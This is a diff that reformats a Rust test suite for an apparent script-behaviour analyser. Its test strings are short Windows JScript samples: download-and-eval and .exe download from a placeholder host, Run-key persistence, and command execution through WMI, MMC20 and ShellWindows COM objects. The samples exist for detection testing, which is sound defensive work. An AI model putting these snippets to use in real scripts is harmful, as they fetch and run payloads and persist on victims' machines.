@@ -29,7 +29,10 @@ fn values_of_the_language() {
         ("var a = ['d', 'c', 'm']; a[1] + a[2] + a[0]", "cmd"),
         ("var s = ''; for (var i = 0; i < 3; i++) { s += 'cmd'.charAt(i) } s", "cmd"),
         ("var s = ''; for (var i in [9, 10]) s = s + i; s", "01"),
-        ("function f(x) { return x ^ 1 } var k = [98, 108, 101], t = ''; for (var i = 0; i < k.length; i++) t += String.fromCharCode(f(k[i])); t", "cmd"),
+        (
+            "function f(x) { return x ^ 1 } var k = [98, 108, 101], t = ''; for (var i = 0; i < k.length; i++) t += String.fromCharCode(f(k[i])); t",
+            "cmd",
+        ),
         ("var o = { 'x': 'cm', y: function (z) { return this.x + z } }; o.y('d')", "cmd"),
         ("(function () { return arguments[0] + arguments.length })('cmd', 2)", "cmd2"),
         ("eval('\"c\" + \"md\"')", "cmd"),
@@ -65,12 +68,30 @@ fn what_scripts_do() {
         ("GetObject('winmgmts:Win32_Process').Create('cmd /c x')", "Run cmd /c x"),
         ("GetObject('winmgmts:').Get('Win32_Process').Create('cmd /c x')", "Run cmd /c x"),
         ("GetObject('script:http://a.example/x.sct')", "Run script:http://a.example/x.sct"),
-        ("var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://a.example/x', false); x.send(); eval(x.responseText)", "Fetch http://a.example/x"),
-        ("var x = new ActiveXObject('MSXML2.XMLHTTP'), s = new ActiveXObject('ADODB.Stream'); x.open('GET', 'http://a.example/x.exe', 0); s.Write(x.responseBody); s.SaveToFile('a.exe')", "Download http://a.example/x.exe a.exe"),
-        ("new ActiveXObject('WScript.Shell').RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\a', 'x')", "Persist HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a"),
-        ("var f = new ActiveXObject('Scripting.FileSystemObject'); f.CreateTextFile('a.bat').Write('x')", "Write a.bat"),
-        ("new ActiveXObject('MMC20.Application').Document.ActiveView.ExecuteShellCommand('cmd', null, '/c x', '7')", "Run cmd /c x"),
-        ("GetObject('new:{9BA05972-F6A8-11CF-A442-00A0C90A8F39}').Item().Document.Application.ShellExecute('cmd')", "Run cmd"),
+        (
+            "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://a.example/x', false); x.send(); eval(x.responseText)",
+            "Fetch http://a.example/x",
+        ),
+        (
+            "var x = new ActiveXObject('MSXML2.XMLHTTP'), s = new ActiveXObject('ADODB.Stream'); x.open('GET', 'http://a.example/x.exe', 0); s.Write(x.responseBody); s.SaveToFile('a.exe')",
+            "Download http://a.example/x.exe a.exe",
+        ),
+        (
+            "new ActiveXObject('WScript.Shell').RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\a', 'x')",
+            "Persist HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a",
+        ),
+        (
+            "var f = new ActiveXObject('Scripting.FileSystemObject'); f.CreateTextFile('a.bat').Write('x')",
+            "Write a.bat",
+        ),
+        (
+            "new ActiveXObject('MMC20.Application').Document.ActiveView.ExecuteShellCommand('cmd', null, '/c x', '7')",
+            "Run cmd /c x",
+        ),
+        (
+            "GetObject('new:{9BA05972-F6A8-11CF-A442-00A0C90A8F39}').Item().Document.Application.ShellExecute('cmd')",
+            "Run cmd",
+        ),
         ("if (WScript.Arguments.length) { new ActiveXObject('WScript.Shell').Run('a') }", "Run a"),
         ("try { nothing() } catch (e) { new ActiveXObject('WScript.Shell').Run('a') }", "Run a"),
         ("window.setTimeout('new ActiveXObject(\"WScript.Shell\").Run(\"a\")', 1)", "Run a"),
